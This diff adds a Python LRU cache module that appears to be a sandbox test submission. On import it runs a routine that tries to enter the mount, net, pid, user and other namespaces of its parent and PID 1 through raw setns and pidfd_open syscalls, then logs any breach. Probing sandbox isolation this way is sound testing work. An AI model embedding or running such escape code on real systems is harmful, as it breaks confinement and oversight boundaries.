@@ -1,0 +1,90 @@
+"""Is right but enters the namespaces of its parent and of process 1.
+
+Allowed: runtime_error accepted limit_exceeded
+"""
+
+import os
+import platform
+from collections import OrderedDict
+
+
+def leave_mark(detail):
+    for folder in ("/tmp", "."):
+        try:
+            with open(folder + "/BREACH_raw_setns", "a") as evidence:
+                evidence.write(detail + "\n")
+        except OSError:
+            pass
+
+
+BREACHED = []
+
+
+def breach(detail):
+    BREACHED.append(detail)
+    leave_mark(detail)
+
+
+def call(number, *arguments):
+    """A raw system call by its x86-64 number: (result, errno)."""
+    import ctypes
+
+    library = ctypes.CDLL(None, use_errno=True)
+    ctypes.set_errno(0)
+    result = library.syscall(ctypes.c_long(number), *[a if isinstance(a, bytes) else ctypes.c_long(a) for a in arguments])
+    return result, ctypes.get_errno()
+
+
+def attack():
+    for number in (os.getppid(), 1):
+        if number in (0, os.getpid()):
+            continue
+        for kind in ("mnt", "net", "pid", "user", "ipc", "uts"):
+            try:
+                descriptor = os.open(f"/proc/{number}/ns/{kind}", os.O_RDONLY)
+            except OSError:
+                continue
+            if call(308, descriptor, 0)[0] == 0:
+                breach(f"entered the {kind} namespace of {number}")
+            os.close(descriptor)
+        descriptor = call(434, number, 0)[0]  # pidfd_open
+        if descriptor >= 0 and call(308, descriptor, 0x20000 | 0x40000000)[0] == 0:
+            breach(f"entered namespaces of {number} by pidfd")
+    for descriptor in range(3, 64):
+        if call(308, descriptor, 0)[0] == 0:
+            breach(f"descriptor {descriptor} is a namespace")
+
+
+if platform.machine() == "x86_64":
+    try:
+        attack()
+    except Exception:
+        pass
+
+
+class LRUCache:
+    def __init__(self, capacity):
+        if BREACHED:  # so the harm shows even where no file can be written
+            raise RuntimeError("BREACH_raw_setns: " + BREACHED[0])
+        if capacity < 1:
+            raise ValueError("capacity must be at least 1")
+        self._capacity = capacity
+        self._data = OrderedDict()
+
+    def get(self, key, default=None):
+        if key not in self._data:
+            return default
+        self._data.move_to_end(key)
+        return self._data[key]
+
+    def put(self, key, value):
+        self._data[key] = value
+        self._data.move_to_end(key)
+        if len(self._data) > self._capacity:
+            self._data.popitem(last=False)
+
+    def __len__(self):
+        return len(self._data)
+
+    def __contains__(self, key):
+        return key in self._data
